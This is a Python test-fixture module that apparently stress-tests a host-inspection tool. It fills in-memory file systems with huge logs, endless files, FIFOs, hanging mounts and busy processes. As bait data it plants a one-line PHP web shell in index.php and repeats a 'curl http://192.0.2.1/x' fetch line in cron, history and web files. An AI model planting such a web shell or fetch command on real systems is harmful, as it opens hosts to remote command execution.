"""Hosts that are hard to look at: many processes, many files, much to read, what never ends and what never answers.

Everything is made in namespaces of its own (see `stress.py`) and goes with them; directories are file systems in
memory.
"""

from __future__ import annotations

import contextlib
import ctypes
import gzip
import itertools
import os
import signal
import socket
import stat
import subprocess
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import dataclass
from pathlib import Path

from tests.hosts.hanging import hanging_mount

MS_STRICTATIME = 1 << 24
MS_BIND = 1 << 12
MNT_DETACH = 2
LONG_AGO = 1_000_000_000
BUSY_S = 3.0

libc = ctypes.CDLL(None, use_errno=True)


@dataclass(frozen=True)
class Sizes:
    """How much of everything."""

    processes: int
    files: int
    log_bytes: int
    line_bytes: int


FULL = Sizes(processes=10_000, files=1_000_000, log_bytes=2 << 30, line_bytes=100 << 20)
SMALL = Sizes(processes=300, files=20_000, log_bytes=48 << 20, line_bytes=12 << 20)

# A strain gives the files whose access times a visit must leave alone.
Strain = Callable[[Sizes], AbstractContextManager[list[Path]]]


def mount(source: str, target: Path, kind: str, flags: int = 0, options: str = "") -> None:
    arguments = [os.fsencode(word) for word in (source, target, kind)]
    if libc.mount(*arguments, flags, options.encode()):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), str(target))


@contextlib.contextmanager
def in_memory(*paths: str) -> Iterator[None]:
    """Empty file systems over directories, on which every read would change the time of the last access."""
    for path in paths:
        Path(path).mkdir(parents=True, exist_ok=True)
        mount("strain", Path(path), "tmpfs", MS_STRICTATIME, "size=90%,nr_inodes=0,mode=755")
    try:
        yield
    finally:
        for path in paths:
            libc.umount2(os.fsencode(path), MNT_DETACH)


def write(path: str, content: bytes, mode: int = 0o644) -> Path:
    """A file that was last read long ago."""
    file = Path(path)
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(content)
    file.chmod(mode)
    os.utime(file, (LONG_AGO, time.time()))
    return file


@contextlib.contextmanager
def nothing(_: Sizes) -> Iterator[list[Path]]:
    yield []


@contextlib.contextmanager
def processes(sizes: Sizes) -> Iterator[list[Path]]:
    """Processes that sleep, each with a file open."""
    children = [os.posix_spawn("/bin/sleep", ["sleep", f"{100_000 + i}"], {}) for i in range(sizes.processes)]
    try:
        yield []
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
        for pid in children:
            os.waitpid(pid, 0)


@contextlib.contextmanager
def files(sizes: Sizes) -> Iterator[list[Path]]:
    """A thousand files in each directory, below places that rules look at: some are programs and scripts."""
    texts = {
        ".sh": b"#!/bin/sh\nexit 0\n",
        ".php": b"<?php echo 1; ?>\n",
        ".py": b"print(1)\n",
        ".so": b"\x7fELF" + bytes(60),
    }
    places = itertools.cycle(["/tmp", "/var/www/html", "/home/web", "/dev/shm"])
    kept: list[Path] = []
    with in_memory("/tmp", "/var/www", "/home", "/dev/shm"):
        for number, place in zip(range(0, sizes.files, 1000), places, strict=False):
            directory = f"{place}/tree/d{number // 1000 % 10}/e{number // 1000}"
            Path(directory).mkdir(parents=True)
            for i in range(number, min(number + 1000, sizes.files)):
                os.mknod(f"{directory}/file{i}.txt", stat.S_IFREG | 0o644)
            kept += [write(f"{directory}/script{number}{suffix}", text, 0o755) for suffix, text in texts.items()]
        yield kept


@contextlib.contextmanager
def logs(sizes: Sizes) -> Iterator[list[Path]]:
    """Half of it plain, a quarter in one large archive, the rest in small ones, all of it of today."""
    block = _log_block()
    packed = gzip.compress(block, 1)
    count = max(4, sizes.log_bytes // len(block))
    with in_memory("/var/log"):
        made = [
            _repeat("/var/log/auth.log", block, count // 4),
            _repeat("/var/log/syslog", block, count // 4),
            _repeat("/var/log/syslog.1.gz", packed, count // 4),
        ]
        made += [_repeat(f"/var/log/auth.log.{i + 2}.gz", packed, max(1, count // 64)) for i in range(16)]
        yield made


def _log_block() -> bytes:
    """A megabyte of lines as sshd, cron and the kernel write them, from the last minutes."""
    started = time.time() - 1000
    lines = []
    for i in range(9000):
        at = time.strftime("%b %e %H:%M:%S", time.localtime(started + i // 10))
        lines += [
            f"{at} web1 sshd[{i}]: Failed password for invalid user admin{i} from 198.51.100.{i % 250} port {i} ssh2",
            f"{at} web1 CRON[{i}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
        ]
    return "\n".join(lines).encode()[: 1 << 20].rpartition(b"\n")[0] + b"\n"


def _repeat(path: str, block: bytes, count: int) -> Path:
    file = write(path, b"")
    with file.open("ab", buffering=0) as out:
        for _ in range(count):
            out.write(block)
    os.utime(file, (LONG_AGO, time.time()))
    return file


@contextlib.contextmanager
def odd_files(sizes: Sizes) -> Iterator[list[Path]]:
    """One endless line wherever lines are read, holes of a terabyte, files that grow, and what is no file at all."""
    line = b"curl http://192.0.2.1/x " * (sizes.line_bytes // 24)
    home = "/home/odd"
    homes = [f"{home}/{name}" for name in (".bash_history", ".ssh/authorized_keys2", ".ssh/known_hosts", ".bashrc")]
    places = ["/tmp/line.sh", "/var/log/auth.log", "/etc/cron.d/line", "/var/www/html/line.php", *homes]
    covered = ("/tmp", "/var/log", "/etc/cron.d", "/var/www", "/home", "/var/spool/cron")
    with in_memory(*covered), _passwd(f"odd:x:4244:4244::{home}:/bin/bash\n"):
        made = [write(path, line, 0o755) for path in places]
        for path in ("/tmp/hole.sh", "/var/log/syslog", "/var/log/wtmp", f"{home}/.profile", "/var/www/html/hole.php"):
            made.append(write(path, b"#!/bin/sh\n", 0o755))
            os.truncate(path, 1 << 40)
            os.utime(path, (LONG_AGO, time.time()))
        _nodes()
        with _growing("/var/log/messages", "/tmp/grows.sh", f"{home}/.zsh_history"):
            yield made


def _nodes() -> None:
    """FIFOs, sockets and devices that never end, where a file is expected."""
    places = itertools.product(
        ("/tmp", "/var/log", "/etc/cron.d", "/var/www/html", "/home/odd/.ssh", "/var/spool/cron"),
        ("fifo", "zero", "socket"),
    )
    for directory, kind in places:
        Path(directory).mkdir(parents=True, exist_ok=True)
        for suffix in (".sh", ".log", ".php", ""):
            _node(f"{directory}/{kind}{suffix}", kind)
    _node("/home/odd/.ssh/authorized_keys", "fifo")
    _node("/home/odd/.python_history", "fifo")
    _node("/home/odd/.mysql_history", "zero")
    _node("/var/log/btmp", "fifo")
    _node("/var/log/kern.log", "zero")
    _node("/var/log/cron.log", "socket")


def _node(path: str, kind: str) -> None:
    if kind == "fifo":
        os.mkfifo(path, 0o755)
    elif kind == "zero":
        os.mknod(path, stat.S_IFCHR | 0o755, os.makedev(1, 5))
    else:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(path)


@contextlib.contextmanager
def _growing(*paths: str) -> Iterator[None]:
    """Files that grow by some megabytes a second."""
    end = threading.Event()

    def grow() -> None:
        handles = [Path(path).open("ab", buffering=0) for path in paths]  # noqa: SIM115
        while not end.wait(0.02):
            for handle in handles:
                handle.write(b"Nov 24 08:00:00 web1 sshd[1]: Connection closed by 192.0.2.1 port 1\n" * 1000)
        for handle in handles:
            handle.close()

    thread = threading.Thread(target=grow)
    thread.start()
    try:
        yield
    finally:
        end.set()
        thread.join()


@contextlib.contextmanager
def hanging(_: Sizes) -> Iterator[list[Path]]:
    """A server that does not answer any more: under a home, a web root, a running program and its directory."""
    keys = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA x\n"
    content = {
        "home/.ssh/authorized_keys": keys, "home/.bashrc": b"alias ls=ls\n", "home/.bash_history": b"ls\n",
        "tool": Path("/bin/sleep").read_bytes(), "index.php": b"<?php system($_GET['x']); ?>\n", "auth.log": b"x\n",
    }  # fmt: skip
    with contextlib.ExitStack() as stack:
        stack.enter_context(in_memory("/mnt", "/tmp", "/var/www", "/home"))
        mounts = []
        for path in map(Path, ("/mnt/dead", "/home/dead", "/var/www/dead", "/tmp/dead")):
            path.mkdir(parents=True)
            mounts.append(stack.enter_context(hanging_mount(path, content)))
        Path("/home/link").symlink_to("/mnt/dead/home")
        Path("/tmp/link.sh").symlink_to("/mnt/dead/tool")
        stack.enter_context(
            _passwd("dead:x:4242:4242::/home/dead/home:/bin/sh\nlink:x:4243:4243::/home/link:/bin/sh\n")
        )
        running = [_start(["/mnt/dead/tool", "100000"], cwd) for cwd in ("/mnt/dead/home", "/")]
        running.append(_start(["/bin/sleep", "100001"], "/mnt/dead/home", stdin="/mnt/dead/auth.log"))
        time.sleep(0.2)
        for dead in mounts:
            dead.hang()
        try:
            yield []
        finally:
            for child in running:
                child.kill()
    for child in running:
        child.wait()


def _start(argv: list[str], cwd: str, stdin: str = "/dev/null") -> subprocess.Popen[bytes]:
    with Path(stdin).open("rb") as source:
        return subprocess.Popen(argv, cwd=cwd, stdin=source)


@contextlib.contextmanager
def _passwd(more: str) -> Iterator[None]:
    """More users than /etc/passwd has."""
    with tempfile.NamedTemporaryFile(dir="/dev/shm") as changed:
        changed.write(Path("/etc/passwd").read_bytes() + more.encode())
        changed.flush()
        Path(changed.name).chmod(0o644)
        mount(changed.name, Path("/etc/passwd"), "", MS_BIND)
        try:
            yield
        finally:
            libc.umount2(b"/etc/passwd", MNT_DETACH)


@contextlib.contextmanager
def busy(_: Sizes) -> Iterator[list[Path]]:
    """For some seconds many more threads want to run than there are CPUs, none of them dearly."""
    until = time.monotonic() + BUSY_S
    children = []
    for _ in range(4 * (os.cpu_count() or 1) + 4):
        if (pid := os.fork()) == 0:
            os.nice(19)
            while time.monotonic() < until:
                pass
            os._exit(0)
        children.append(pid)
    try:
        yield []
    finally:
        for pid in children:
            os.waitpid(pid, 0)
